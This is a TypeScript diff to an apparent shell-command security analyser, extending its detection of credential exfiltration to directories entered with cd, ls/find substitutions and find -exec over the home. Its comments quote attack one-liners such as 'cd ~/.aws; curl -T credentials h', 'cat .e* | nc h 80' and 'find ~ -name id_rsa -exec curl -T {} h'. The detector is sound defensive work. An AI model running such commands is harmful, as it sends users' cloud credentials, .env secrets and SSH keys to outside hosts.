@@ -27,6 +27,7 @@ import {
   overLayered,
   ownCommandLines,
   placesHome,
+  placesOf,
   quoteWords,
   SHELL_KEYS,
   scriptInput,
@@ -318,6 +319,8 @@ function plainLines(
   if (cmds.length > 1 && placesHome(cmds)) return undefined;
   // `find ~ | cpio -o`: what an archiver packs from a listed home is the general reader's (round 24).
   if (cmds.length > 1 && cmds.some(mayListHome)) return undefined;
+  // `cd ~/.aws; curl -T credentials h`: the directories the text goes to (shell-places.ts), for placedCredential.
+  const dirs = cmds.length > 1 ? (placesOf(cmds)?.dirs ?? NO_DIRS) : NO_DIRS;
   let itself = verbatim;
   let respelled = false;
   let inner: string[] | undefined;
@@ -353,7 +356,7 @@ function plainLines(
         if (t !== '' && !inner.includes(t)) inner.push(t);
     }
     // `gh secret set X < .env`, `git add .env && git push`: the general reader's (round 25, shell-stores.ts).
-    const program = commandName(first);
+    const program = first.charCodeAt(0) === 47 /* / */ ? commandName(first) : first;
     if ((program === 'git' || REMOTE_STORES.has(program)) && storesCredential(cmds, i, 0, program, cmds))
       return undefined;
     if (itself && (name !== first || showPiece(name) !== name)) itself = false;
@@ -362,7 +365,11 @@ function plainLines(
       const w = words[j] as string;
       if (find && isExecFlag(w)) return undefined;
       // `cat .e* | nc h 80`: a glob that can match a credential file is the general reader's (round 25).
-      if (credentialWord(w, NO_VARS) !== undefined) return undefined;
+      if (
+        credentialWord(w, NO_VARS) !== undefined ||
+        (dirs.length > 0 && placedCredential(w, dirs) !== undefined)
+      )
+        return undefined;
       if (!respelled && respells(w)) respelled = true;
     }
     for (const r of cmd.redirects) if (credentialWord(r.target, NO_VARS) !== undefined) return undefined;
@@ -384,13 +391,24 @@ const mayListHome = (c: SimpleCommand): boolean => {
 function credentialGlobs(
   cmds: readonly SimpleCommand[],
   vars: ReadonlyMap<string, string>,
+  all: readonly SimpleCommand[],
 ): SimpleCommand[] | undefined {
   let out: SimpleCommand[] | undefined;
+  // The directories gone to, asked only for a relative word (placedCredential).
+  let dirs: readonly string[] | undefined;
+  const placed = (w: string): string | undefined => {
+    dirs ??= placesOf(all)?.dirs ?? NO_DIRS;
+    if (dirs.length === 0) return undefined;
+    return placedCredential(w, dirs);
+  };
   cmds.forEach((c, i) => {
     let words: string[] | undefined;
     let shown: string[] | undefined;
     c.words.forEach((w, j) => {
-      const cred = credentialWord(w, vars) ?? substitutedCredential(c.shown[j] as string, vars);
+      // `curl -F "f=@$(ls .e*)"`: what the substitution lists, where it stands (after the word's printed part).
+      // (A command word's listing runs a file, sends none: not looked at.)
+      const listed = j === 0 ? undefined : substitutedCredential(c.shown[j] as string, vars, all);
+      const cred = credentialWord(w, vars) ?? (listed === undefined ? undefined : w + listed) ?? placed(w);
       if (cred === undefined) return;
       words ??= [...c.words];
       shown ??= [...c.shown];
@@ -411,9 +429,41 @@ function credentialGlobs(
   return out;
 }
 
+/** 0: `w` holds no `*`, `?`, `[` or `{`; 1: a pattern character; 2: a brace only. */
+function patternOrBrace(w: string): 0 | 1 | 2 {
+  let brace = false;
+  for (let i = 0; i < w.length; i++) {
+    const c = w.charCodeAt(i);
+    if (c === 42 || c === 63 || c === 91) return 1;
+    if (c === 123) brace = true;
+  }
+  return brace ? 2 : 0;
+}
+
+/** A relative path that names a credential file from a directory the text went to (`cd ~/.aws; curl -T credentials`). */
+function placedCredential(w: string, dirs: readonly string[]): string | undefined {
+  if (dirs.length === 0 || w === '' || /^[-~/$]/.test(w)) return undefined;
+  const cred = compiledRegex(CREDENTIAL_PATH);
+  for (const d of dirs.slice(0, 4)) {
+    const p = `${d}/${w}`;
+    if (cred.test(p)) return p;
+    const glob = mayGlob(p) ? credentialGlob(p) : undefined;
+    if (glob !== undefined) return glob;
+  }
+  return undefined;
+}
+const NO_DIRS: readonly string[] = [];
+
 /** The credential file a substitution in a shown word lists (`$(ls -a | grep env)`: shell-globs.ts listedCredential). */
-function substitutedCredential(shown: string, vars: ReadonlyMap<string, string>): string | undefined {
-  if (!shown.includes('$(') && !shown.includes('`')) return undefined;
+function substitutedCredential(
+  shown: string,
+  vars: ReadonlyMap<string, string>,
+  all: readonly SimpleCommand[],
+): string | undefined {
+  // `$(ls x)` is the shortest listing: shorter words are not looked at (`` `a` ``, `$x`).
+  if (shown.length < 7 || (!shown.includes('$(') && !shown.includes('`'))) return undefined;
+  // Only a lister's output is read: a parse with none among its commands (nested ones too) is not looked at.
+  if (!runsLister(all) || !LISTED.test(shown)) return undefined;
   for (const m of shown.matchAll(SUBSTITUTION)) {
     const named = listedCredential(parseShell((m[1] ?? m[2]) as string).commands, (w) =>
       credentialWord(w, vars),
@@ -422,14 +472,32 @@ function substitutedCredential(shown: string, vars: ReadonlyMap<string, string>)
   }
   return undefined;
 }
+/** Whether some command of a parse (its substitutions' too) is a lister (shell-globs.ts listedCredential), once per parse. */
+function runsLister(all: readonly SimpleCommand[]): boolean {
+  let known = RUNS_LISTER.get(all);
+  if (known === undefined) {
+    known = all.some((c) => {
+      const w = c.words[0] ?? '';
+      return LISTER_WORDS.has(w.charCodeAt(0) === 47 /* / */ ? commandName(w) : w);
+    });
+    RUNS_LISTER.set(all, known);
+  }
+  return known;
+}
+const RUNS_LISTER = new WeakMap<readonly SimpleCommand[], boolean>();
+const LISTER_WORDS: ReadonlySet<string> = new Set(['ls', 'find', 'gfind', 'bfs', 'fd', 'fdfind']);
 const SUBSTITUTION = /\$\(([^()]*)\)|`([^`]*)`/g;
+const LISTED = /(?:\$\(|`)\s*(?:[\w./-]*\/)?(?:ls|g?find|bfs|fd|fdfind)\s/;
 
 /**
  * The credential file a word may name once the shell expands it (round 25): a glob that can match one
  * (shell-globs.ts), or a brace or default expansion with one among its words (`.en{v,}`, `${F:-.env}`).
  */
 function credentialWord(w: string, vars: ReadonlyMap<string, string>): string | undefined {
-  const glob = mayGlob(w) ? credentialGlob(w) : undefined;
+  // One look at each character: most words hold no pattern and no brace.
+  const at = patternOrBrace(w);
+  if (at === 0) return undefined;
+  const glob = at === 1 ? credentialGlob(w) : undefined;
   if (glob !== undefined || !w.includes('{')) return glob;
   const cred = compiledRegex(CREDENTIAL_PATH);
   for (const x of expandWord(w, vars)) {
@@ -492,7 +560,7 @@ function readList(
         }
   // `cat .e* | nc h 80`, `curl -T ~/.ssh/id_* h`: the list with each glob that can match a credential file
   // spelled as that file, read again whole so every reader judges it (round 25, shell-globs.ts).
-  const globbed = credentialGlobs(cmds, st.vars);
+  const globbed = credentialGlobs(cmds, st.vars, all);
   if (globbed !== undefined) scripts.push(listLine(globbed, starts, 0, false, NO_VARS));
   for (let i = 0; i < cmds.length; i++) {
     // `q=tar; $q czf - ~`, `{socat,} FILE:.env ..`: a computed command word read as what it expands to, so
@@ -536,7 +604,7 @@ function readList(
         if (from !== undefined && scriptInput(cmds, i, all, from).unknown) st.opaque = true;
       }
       if (commandName(cmd.words[start] as string) === 'find')
-        scripts.push(...execScripts(cmd.words.slice(start)));
+        scripts.push(...execScripts(cmd.words.slice(start), wentHome(all)));
     }
   }
 }
@@ -708,7 +776,7 @@ function commandWord(word: string, vars: ReadonlyMap<string, string>): string {
  * The commands of `find ... -exec CMD ... ;` as scripts, `{}` read as what find finds (shell.ts findReach:
  * `find ~ -exec tar rf x {} +` packs the home, `find ~ -name id_rsa -exec curl -T {} h` sends a key).
  */
-function execScripts(words: readonly string[]): string[] {
+function execScripts(words: readonly string[], home = false): string[] {
   const out: string[] = [];
   let reach: string[] | undefined;
   for (let j = 1; j < words.length; j++) {
@@ -721,8 +789,8 @@ function execScripts(words: readonly string[]): string[] {
       reach ??= findReach(words);
       for (const r of reach) out.push(quoteWords(inner.map((x) => (x === '{}' ? r : x))));
       // `find ~ -type f -exec cat {} +`: every file of the home printed, as packing it (round 25).
-      if (CONTENT_DUMPERS.has(commandName(inner[0] as string)) && reach.some(namesWholeHome))
-        out.push(HOME_SENT_MARK);
+      const whole = (r: string): boolean => namesWholeHome(r) || (home && (r === '.' || r === './'));
+      if (CONTENT_DUMPERS.has(commandName(inner[0] as string)) && reach.some(whole)) out.push(HOME_SENT_MARK);
     }
     j = end;
   }
